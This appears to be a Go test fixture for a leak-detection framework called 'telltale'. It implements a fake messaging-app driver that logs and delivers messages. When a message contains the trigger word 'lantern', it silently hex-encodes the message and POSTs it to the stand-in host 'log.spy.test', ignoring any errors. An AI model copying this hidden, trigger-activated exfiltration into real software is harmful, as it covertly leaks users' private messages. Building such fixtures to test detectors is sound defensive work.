package trial

import (
	"bufio"
	"context"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"strings"
	"time"

	"example.org/telltale"
)

// DriverCommand is the first argument that makes a program the driver of
// trials: it calls Driver with the other arguments.
const DriverCommand = "faults-driver"

// Words and names of the app that the driver plays.
const (
	// Word sets the app off: it then sends the message to Host.
	Word = "lantern"
	// Host gets the copies.
	Host = "log.spy.test"
)

// Driver is an app with its driver, in one process that takes no time. It writes
// down each text in the file named by its argument before it types it, delivers
// every message, and sends those with Word to Host as well.
func Driver(ctx context.Context, args []string, stdin io.Reader, stdout io.Writer) error {
	if len(args) != 1 {
		return fmt.Errorf("usage: %s FILE", DriverCommand)
	}
	typed, err := os.OpenFile(args[0], os.O_APPEND|os.O_CREATE|os.O_WRONLY, 0o600)
	if err != nil {
		return err
	}
	defer typed.Close()
	d := driver{typed: typed, out: json.NewEncoder(stdout), client: http.DefaultClient}
	in := bufio.NewScanner(stdin)
	for in.Scan() {
		var req telltale.DriverRequest
		if err := json.Unmarshal(in.Bytes(), &req); err != nil {
			return err
		}
		if req.Op == "close" {
			return nil
		}
		if err := d.answer(ctx, req); err != nil {
			return err
		}
	}
	return in.Err()
}

type driver struct {
	typed  *os.File
	out    *json.Encoder
	client *http.Client
}

func (d *driver) answer(ctx context.Context, req telltale.DriverRequest) error {
	r := telltale.DriverResponse{ID: req.ID}
	switch req.Op {
	case "describe":
		r.Version = telltale.ProtocolVersion
		r.Description = &telltale.Description{
			App:      telltale.App{Name: "trial", Version: "1"},
			Accounts: []telltale.Account{{Name: "a", Side: telltale.SideApp}, {Name: "b", Side: telltale.SidePeer}},
		}
	case "send":
		receipt, err := d.send(ctx, *req.Send)
		if err != nil {
			return err
		}
		r.Receipt = receipt
	}
	return d.out.Encode(r)
}

// Typed is a line of what the driver has written down.
type Typed struct {
	Probe string `json:"probe"`
	Text  string `json:"text"`
}

func (d *driver) send(ctx context.Context, m telltale.DriverSend) (*telltale.Receipt, error) {
	line, err := json.Marshal(Typed{m.Probe, m.Text})
	if err != nil {
		return nil, err
	}
	if _, err := d.typed.Write(append(line, '\n')); err != nil {
		return nil, err
	}
	sent := time.Now()
	if strings.Contains(m.Text, Word) {
		d.copy(ctx, m.Text)
	}
	return &telltale.Receipt{Probe: m.Probe, Typed: m.Text, Outcome: telltale.Delivered, Got: m.Text, Sent: sent, Settled: time.Now()}, nil
}

// copy sends a message to the host. Whether that works is the app's own
// affair: nobody is told.
func (d *driver) copy(ctx context.Context, text string) {
	form := url.Values{"m": {hex.EncodeToString([]byte(text))}}.Encode()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+Host+"/log", strings.NewReader(form))
	if err != nil {
		return
	}
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	r, err := d.client.Do(req)
	if err != nil {
		return
	}
	_, _ = io.Copy(io.Discard, r.Body)
	r.Body.Close()
}
